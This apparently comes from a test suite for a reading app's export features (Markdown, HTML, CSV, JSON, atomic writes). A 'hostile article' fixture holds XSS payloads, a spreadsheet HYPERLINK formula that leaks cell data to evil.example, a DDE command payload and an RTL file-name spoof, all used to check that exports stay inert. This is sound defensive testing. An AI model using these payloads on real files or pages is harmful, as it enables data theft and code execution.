"""Exports of highlighted passages: goldens on the seeds, cross-reference kinds, a hostile
article in every format, atomic writes. Real SQLite and Whoosh in temporary folders.

Regenerate the goldens (after a deliberate change of an export format) with
    READER_REGEN_GOLDEN=1 python -m pytest tests/core/test_export.py
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from reader.core.errors import InvalidArgument, NotFound, OutputError, OutputExists
from reader.core.export import (FORMATS, export, quote_with_citation, write_atomic,
                                write_export)
from reader.core.links import LinkEnd
from tests.annotated import CLAIM_1500, SEED0, SEED2, SEED3, annotate, seeded_library, span
from tests.helpers import write_jsonl

GOLDEN = Path(__file__).resolve().parents[1] / "golden"
REGEN = os.environ.get("READER_REGEN_GOLDEN") == "1"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def annotated(tmp_path_factory):
    lib = seeded_library(tmp_path_factory.mktemp("export") / "lib")
    annotate(lib)
    for _ in lib.cross_reference():
        pass
    yield lib
    lib.close()


@pytest.mark.parametrize("fmt", FORMATS)
def test_golden_user_export(annotated, fmt):
    out = export(annotated, fmt, kind="user")
    path = GOLDEN / f"export_user.{fmt}"
    if REGEN:
        path.write_bytes(out.encode("utf-8"))
    assert path.exists(), f"missing {path}; make it with READER_REGEN_GOLDEN=1"
    assert out == path.read_bytes().decode("utf-8"), (
        f"{fmt} export differs from {path}; if the change is intended, regenerate with "
        "READER_REGEN_GOLDEN=1")


def test_golden_markdown_cites_the_conflict_and_its_counterpart():
    md = (GOLDEN / "export_user.md").read_text(encoding="utf-8")
    block = md[md.index("## A Reuters investigation"):]
    assert "**CONFLICTS** with *Russia Relies on North Korean Forces and Foreign Labor for " \
           "Ukraine War*, paragraph 1, characters 127–271 (pinned by you):" in block
    assert f"  > {CLAIM_1500}" in block
    assert "  - Source: Russia Relies on North Korean Forces and Foreign Labor for Ukraine War " \
           "— EuropeNews" in block
    assert "> North Korea has sent 17,000 combat troops" in block
    assert "- Note: Which figure is right?\n  Ask the desk: 1,500 or 17,000." in block
    assert "- Tags: troops, to check" in block
    assert "— purple “quote in report”" in md                     # a user-edited label
    assert md.count("### ") == 5


def test_copy_with_citation(annotated):
    doc = annotated.get(SEED3)
    s, e = span(annotated, SEED3, "approximately 14,000 North Korean troops")
    assert quote_with_citation(doc, s, e) == (
        "> approximately 14,000 North Korean troops\n>\n"
        "> — A Reuters investigation reveals the significant extent of North Korea’s military "
        f"support…, paragraph 1, characters {s}–{e}\n")
    two = quote_with_citation(doc, 0, doc.text.index("\n\n") + 30)
    assert all(line.startswith(">") for line in two.splitlines())


def test_conflicts_kind_lists_each_conflict_with_counterpart_and_citation(annotated):
    conflicts = annotated.links(relation="conflicts")
    assert conflicts
    md = export(annotated, "md", kind="conflicts")
    assert "AGREES**" not in md.split("Relations:")[1].split("\n", 1)[1]
    assert md.count("- **CONFLICTS** with") == len(conflicts)
    assert "### 1. Highlight" not in md                           # no user highlights
    for a_doc, a_s, a_e, b_doc, b_s, b_e, *_ in conflicts:
        for doc, s, e in ((a_doc, a_s, a_e), (b_doc, b_s, b_e)):
            assert annotated.get(doc).text[s:e] in md
    # each listed once, under the document that comes first (003, by the library's order)
    assert md.index("## A Reuters investigation") < md.index("- **CONFLICTS** with")
    assert "  - Source: Russia Relies on North Korean Forces and Foreign Labor for Ukraine War " \
           "— EuropeNews\n" in md


def test_all_kind_counts_and_formats_agree(annotated):
    links = annotated.links()
    rel = [r[6] for r in links]
    md = export(annotated, "md", kind="all")
    assert (f"5 highlights; {rel.count('conflicts')} conflicting, {rel.count('agrees')} "
            f"agreeing and {rel.count('related')} related cross-references") in md
    rows = list(csv.reader(io.StringIO(export(annotated, "csv", kind="all")[1:])))
    assert len(rows) == 1 + 5 + len(links)
    data = json.loads(export(annotated, "json", kind="all"))
    items = data["first"]["items"]
    linking = [a for a in items if a["motivation"] == "linking"]
    assert len(linking) == len(links) and data["total"] == len(items) == 5 + len(links)
    texts = {d.id: annotated.get(d.id).text for d in annotated.documents()}
    for a in items:
        targets = a["target"] if isinstance(a["target"], list) else [a["target"]]
        for t in targets:
            quote, pos = t["selector"]
            doc = t["source"].removeprefix("reader:doc/")
            assert texts[doc][pos["start"]:pos["end"]] == quote["exact"]


def test_scope_and_verdicts(annotated):
    md = export(annotated, "md", doc_ids=[SEED2], kind="xref")
    assert md.count("\n## ") == 1 and "## Once a global powerhouse" in md
    with pytest.raises(NotFound):
        export(annotated, "md", doc_ids=["nope"])
    conflict = annotated.links(relation="conflicts")[0]
    other = annotated.links(relation="conflicts")[1]
    hl = annotated.highlights
    try:
        hl.decide(conflict, "rejected")
        hl.decide(other, "accepted")
        md = export(annotated, "md", kind="conflicts")
        assert md.count("- **CONFLICTS** with") == len(annotated.store.links(
            relation="conflicts")) - 1
        assert md.count("— accepted by you:") == 1
    finally:
        hl.decide(conflict, None)
        hl.decide(other, None)


# -- a hostile article --------------------------------------------------------------------------
PARAS = [
    "<script>alert('x')</script> Officials said <img src=x onerror=alert(1)> nothing.",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+1 is what the spreadsheet sees; -2+3 too; @SUM(A1:A9) as well.",
    "The name \u202egnp.exe\u202c reads backwards; so does \u202eunterminated override",
    "Zalgo: e\u0301\u0308\u0323 and a\u0300\u0300\u0300 combine.",
    "# Not a heading\n> not a quote\n* not a list\n1. not a list [link](javascript:alert(1)) "
    "`code` **bold** _em_ <b>b</b> &amp; | table |",
    "word " * 4000,
]
HOSTILE = {"id": "hostile", "title": "<script>alert(1)</script> =cmd|' /C calc'!A0",
           "source": "@evil", "author": "-minus", "url": "javascript:alert(1)",
           "date": "2024-11-02", "text": "\n\n".join(PARAS)}
NOTE = "</blockquote><script>alert(2)</script>\n> fake quote\n# fake heading\n=1+1"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from reader.core.library import Library
    tmp = tmp_path_factory.mktemp("hostile")
    lib = Library(tmp / "lib")
    lib.import_paths([write_jsonl(tmp / "h.jsonl", [HOSTILE])]).run()
    text = lib.get("hostile").text
    paras = lib.paragraphs("hostile")
    hl = lib.highlights
    for n, (s, e) in enumerate(paras):
        hl.add("hostile", s, e, note=NOTE if n % 2 else "", tags=["=1+1", "<i>t</i>"])
    s = text.index("# Not a heading")                   # several paragraphs in one quote
    e = text.index("| table |") + len("| table |")
    pin = LinkEnd("conflicts", "hostile", *paras[0], quote=text[slice(*paras[0])], why="<b>why</b>",
                  pinned=True)
    hl.add("hostile", s, e, color="pink", note="-@x", link=pin)
    yield lib
    lib.close()


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += attrs


def test_hostile_html_is_inert(hostile):
    out = export(hostile, "html", kind="all")
    assert "<script" not in out.lower() and "&lt;script&gt;" in out
    p = _Tags()
    p.feed(out)
    assert p.tags <= {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2",
                      "h3", "p", "main", "section", "div", "blockquote", "span", "i", "b",
                      "strong", "bdi", "a"}
    assert not [a for a in p.attrs if a[0].startswith("on")]
    assert not [v for k, v in p.attrs if k == "href" and not v.startswith(("http:", "https:"))]
    assert "Content-Security-Policy" in out and "default-src 'none'" in out


def test_hostile_markdown_stays_in_its_blocks(hostile):
    md = export(hostile, "md", kind="all")
    ours = re.sub(r"\*\*(CONFLICTS|AGREES|RELATED)\*\*|with \*[^*\n]+\*, ", "", md)
    assert re.search(r"(?<!\\)[<`*\[\]]", ours) is None     # the text's own are escaped
    headings = [line for line in md.splitlines() if line.startswith("#")]
    n = len(hostile.paragraphs("hostile"))
    assert len(headings) == 1 + 1 + n + 1      # title, the document, its passages
    for block in md.split("\n### ")[1:]:
        body = block.split("\n\n")[1]          # the block quote after the heading
        assert all(line.startswith(">") for line in body.splitlines()), body[:200]
    assert "- Note: \\</blockquote\\>\\<script\\>alert(2)\\</script\\>\n  \\> fake quote\n" \
           "  \\# fake heading\n  \\=1+1" in md
    for line in md.splitlines():               # an RTL override ends on its own line
        assert line.count("\u202e") <= line.count("\u202c")
    assert "> " + "word " * 10 in md


def test_hostile_csv_runs_no_formula(hostile):
    out = export(hostile, "csv", kind="all")
    assert out.startswith("\ufeffdoc id,title,") and "\r\n" in out
    rows = list(csv.reader(io.StringIO(out[1:], newline="")))
    cells = [c for r in rows[1:] for c in r]
    n = len(hostile.paragraphs("hostile"))
    assert len(rows) == 1 + n + 1 and all(len(r) == 18 for r in rows)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")" in cells
    assert "'@evil" in cells and "'-minus" in cells and "'=1+1; <i>t</i>" in cells
    assert "'-@x" in cells


def test_hostile_json_keeps_exact_text(hostile):
    data = json.loads(export(hostile, "json", kind="all"))
    text = hostile.get("hostile").text
    items = data["first"]["items"]
    assert len(items) == len(hostile.paragraphs("hostile")) + 1
    for a in items:
        quote, pos = a["target"]["selector"]
        assert quote["exact"] == text[pos["start"]:pos["end"]]
    exacts = [a["target"]["selector"][0]["exact"] for a in items]
    assert any("\u202eunterminated override" in x for x in exacts)
    assert any(len(x) > 19000 for x in exacts)          # the very long line
    assert {b["value"] for a in items for b in a.get("body", [])
            if b.get("purpose") == "commenting"} == {NOTE, "-@x"}


# -- writing files ------------------------------------------------------------------------------
def test_atomic_write_refuses_to_overwrite_without_force(annotated, tmp_path):
    out = tmp_path / "report.md"
    write_export(annotated, out, kind="user")
    assert out.read_text(encoding="utf-8") == export(annotated, "md", kind="user")
    assert (out.stat().st_mode & 0o777) == 0o644
    out.write_text("mine", encoding="utf-8")
    with pytest.raises(OutputExists, match="--force"):
        write_export(annotated, out, kind="user")
    assert out.read_text(encoding="utf-8") == "mine"
    write_export(annotated, out, "html", kind="user", force=True)
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.md"]   # no temporary left


def test_unwritable_paths_get_a_clear_error_and_nothing_changes(annotated, tmp_path):
    (tmp_path / "file").write_text("x", encoding="utf-8")
    cases = {tmp_path / "missing" / "a.md": "does not exist",
             tmp_path / "file" / "a.md": "is not a folder",
             tmp_path: "is a folder"}
    for path, reason in cases.items():
        with pytest.raises(OutputError, match=reason):
            write_export(annotated, path)
    with pytest.raises(NotFound):
        write_export(annotated, tmp_path / "b.md", doc_ids=["nope"])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]
    if os.geteuid() != 0:                      # root writes anywhere
        ro = tmp_path / "ro"
        ro.mkdir(mode=0o555)
        with pytest.raises(OutputError, match="permission"):
            write_atomic(ro / "a.md", b"x")


def test_unknown_document_in_scope(annotated):
    with pytest.raises(NotFound, match="nope"):
        export(annotated, "csv", doc_ids=[SEED0, "nope"])


def test_pinned_counterpart_whose_document_was_removed(tmp_path):
    with seeded_library(tmp_path / "lib") as lib:
        annotate(lib)
        lib.remove([SEED0])
        md = export(lib, "md", kind="all")
        assert f"  - Source: document {SEED0} (no longer in the library)" in md
        assert f"  > {CLAIM_1500}" in md                  # the quote it had is kept
        data = json.loads(export(lib, "json", kind="all"))
        assert len(data["first"]["items"]) == 3
        with pytest.raises(InvalidArgument):
            quote_with_citation(lib.get(SEED3), 10, 5)


def test_a_killed_exports_temporary_file_is_removed_by_the_next_write(tmp_path):
    import os
    import subprocess
    import sys
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, check=True)
    dead_pid = int(gone.stdout)
    stale = tmp_path / f".out.md.reader-{dead_pid}-abc123.tmp"   # what a killed export leaves
    stale.write_bytes(b"x" * 1000)
    live = tmp_path / f".out.md.reader-{os.getppid()}-def456.tmp"  # another export, running
    live.write_bytes(b"y")
    other = tmp_path / f".notes.md.reader-{dead_pid}-abc123.tmp"   # another file's: not ours
    other.write_bytes(b"z")
    write_atomic(tmp_path / "out.md", b"# export\n")
    assert (tmp_path / "out.md").read_bytes() == b"# export\n"
    assert not stale.exists() and live.exists() and other.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["out.md", live.name, other.name])
